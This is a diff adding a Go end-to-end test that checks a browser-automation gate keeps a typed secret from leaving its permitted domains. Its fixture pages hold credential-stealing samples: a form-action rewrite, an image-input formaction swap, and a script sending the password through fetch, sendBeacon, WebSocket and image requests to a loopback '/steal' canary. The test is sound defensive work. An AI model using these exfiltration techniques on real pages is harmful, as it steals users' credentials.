@@ -1,0 +1,93 @@
+package main
+
+import (
+	"fmt"
+	"net/http"
+	"strings"
+	"sync/atomic"
+	"testing"
+)
+
+// secretBoundManifest allows two loopback hosts; its secret may go only to
+// the first. 127.0.0.3 is in scope, outside the secret's domains: the
+// canary of TestSecretStaysOnItsDomains.
+const secretBoundManifest = `
+[tool]
+name = "e2e"
+[browser]
+startup_timeout_seconds = 30
+[browser.scope]
+allowed_domains = ["127.0.0.1", "127.0.0.3"]
+allow_private_cidrs = ["127.0.0.1/32", "127.0.0.3/32"]
+[browser.commands.navigate]
+[browser.commands.type_text]
+[browser.commands.submit_form]
+[browser.commands.click]
+[browser.commands.snapshot]
+[secrets.PW]
+env = "BROWSERGATE_TEST_BOUND_PW"
+domains = ["127.0.0.1"]
+`
+
+// TestSecretStaysOnItsDomains: once a secret is typed into a page, the
+// page can send it nowhere outside the secret's domains, even to a host
+// the scope allows: not by a submit handler that rewrites the form's
+// action, not by a submit through an image input whose formaction differs
+// from the form's action, not by its own fetch or WebSocket. The canary
+// on 127.0.0.3 (in scope, outside the secret's domains) sees nothing.
+func TestSecretStaysOnItsDomains(t *testing.T) {
+	// Not parallel: t.Setenv.
+	const value = "bound-secret-9f27c1"
+	t.Setenv("BROWSERGATE_TEST_BOUND_PW", value)
+	var canaryHits atomic.Int64
+	canary, stop, err := serveOn("127.0.0.3:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		canaryHits.Add(1)
+		fmt.Fprint(w, "stolen")
+	}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(stop)
+	f := startWith(t, secretBoundManifest)
+	steal := canary + "/steal"
+	ws := strings.Replace(canary, "http://", "ws://", 1) + "/ws"
+	site, log := serveLogged(t, map[string]string{
+		"/onsubmit": `<form method=post action="/login" onsubmit="this.action='` + steal + `'"><input type=password id=pw name=pw><button id=go>Sign in</button></form>`,
+		"/image":    `<form method=post action="` + steal + `"><input type=password id=pw name=pw><input type=image id=go formaction="/login" alt="Sign in"></form>`,
+		"/script": `<input type=password id=pw><p id=s>waiting</p><script>
+document.getElementById('pw').addEventListener('input', e => {
+  const v = e.target.value;
+  fetch('` + steal + `?v=' + encodeURIComponent(v)).catch(() => {});
+  navigator.sendBeacon('` + steal + `', v);
+  try { const s = new WebSocket('` + ws + `'); s.onopen = () => s.send(v); } catch (err) {}
+  new Image().src = '` + steal + `?img=' + encodeURIComponent(v);
+  document.getElementById('s').textContent = 'sent';
+});
+</script>`,
+	})
+	for _, page := range []string{"/onsubmit", "/image"} {
+		f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + page})
+		f.mustAllow(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<PW>"})
+		f.call(t, "e2e.submit_form", map[string]any{"selector": "#go"})
+		f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + page})
+		f.mustAllow(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<PW>"})
+		f.call(t, "e2e.click", map[string]any{"selector": "#go"})
+	}
+	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/script"})
+	out := f.mustAllow(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<PW>"})
+	if !strings.Contains(out, "secret domains") {
+		t.Errorf("the page's own requests with the secret were not reported as refused:\n%s", out)
+	}
+	if n := canaryHits.Load(); n != 0 {
+		t.Fatalf("the host outside the secret's domains got %d request(s)", n)
+	}
+	if log.count("/login") == 0 {
+		t.Errorf("no submission reached the secret's own domain: the test proved nothing")
+	}
+	// Leaving the page ends the binding: the other allowed host is
+	// reachable again.
+	f.mustAllow(t, "e2e.navigate", map[string]any{"url": canary + "/after"})
+	if canaryHits.Load() == 0 {
+		t.Errorf("after leaving the page, the other allowed host should be reachable again")
+	}
+}
